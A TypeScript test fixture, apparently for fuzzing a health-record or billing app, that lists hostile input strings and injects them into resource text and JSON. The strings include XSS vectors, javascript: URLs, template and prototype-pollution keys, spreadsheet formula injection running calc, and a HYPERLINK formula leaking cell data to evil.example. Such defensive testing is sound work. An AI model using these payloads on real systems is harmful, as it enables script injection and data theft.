import { isObject } from './answer.js';

/** What a text of a payer's may hold: markup, scripts, links, formulas, control characters, templates. */
export const PAYLOADS: readonly string[] = [
  '<script>window.__pwned=1</script>',
  '"><script>window.__pwned=1</script>',
  '</script><script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '\'"><img src=x onerror=window.__pwned=1>',
  '<svg onload="window.__pwned=1"></svg>',
  '<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<body onload=window.__pwned=1>',
  '<details open ontoggle=window.__pwned=1>',
  '<input autofocus onfocus=window.__pwned=1>',
  '<a href="javascript:window.__pwned=1">press</a>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>*{display:none}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<!--<script>window.__pwned=1</script>-->',
  'javascript:window.__pwned=1',
  ' javascript:window.__pwned=1',
  '\tjava\nscript:window.__pwned=1',
  'JaVaScRiPt:window.__pwned=1',
  'data:text/html,<script>window.__pwned=1</script>',
  'vbscript:msgbox(1)',
  '//evil.example/',
  'https://payer.example@evil.example/',
  'tel:*%2306%23',
  'mailto:a@example.com?bcc=b@evil.example&body=x',
  '${window.__pwned=1}',
  '{{constructor.constructor("window.__pwned=1")()}}',
  '=HYPERLINK("https://evil.example/?"&A1,"press")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\u0000\u0001\u0007\u001b[31m',
  'safe\u202Egnp.exe',
  '\u2066\u2067nested\u2069\u202A',
  'Z\u0351\u036b\u0343\u036aalgo\u0300\u0301\u0302\u0303\u0304\u0305',
  '\uFEFF\u200B\u200D invisible',
  '__proto__',
  'W'.repeat(10_000),
];

/** What holds a resource together, and is no text: without it nothing would be read at all. */
const STRUCTURE = new Set(['resourceType', 'id', 'reference', 'system', 'url', 'fullUrl', 'status', 'use', 'mode', 'relation', 'outcome', 'gender', 'profile', 'code', 'currency']);
const DATE = /^\d{4}(-\d\d(-\d\d.*)?)?$/;

/** Another payload in each text; a text in a list counts by the list's name. */
export function hostile(root: unknown): unknown {
  let turn = 0;
  const next = (): string => PAYLOADS[turn++ % PAYLOADS.length] ?? '';
  const walk = (value: unknown, key: string): unknown => {
    if (Array.isArray(value)) return value.map((one) => walk(one, key));
    if (isObject(value)) return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, walk(one, name)]));
    return typeof value === 'string' && !STRUCTURE.has(key) && !DATE.test(value) ? next() : value;
  };
  return walk(root, '');
}

const KEYS = '"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"toString":"polluted","hasOwnProperty":1,';

/** Written into the text, since an object of ours would take `__proto__` for its own. */
export function withHostileKeys(json: string): string {
  return json.replace(/\{(?="resourceType":)/g, `{${KEYS}`).replace(/"code":"[^"]*"(?=[,}])/g, nthCode());
}

function nthCode(): (whole: string) => string {
  const codes = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];
  let turn = 0;
  return (whole) => {
    turn += 1;
    return turn % 5 === 0 ? `"code":"${codes[(turn / 5) % codes.length] ?? ''}"` : whole;
  };
}
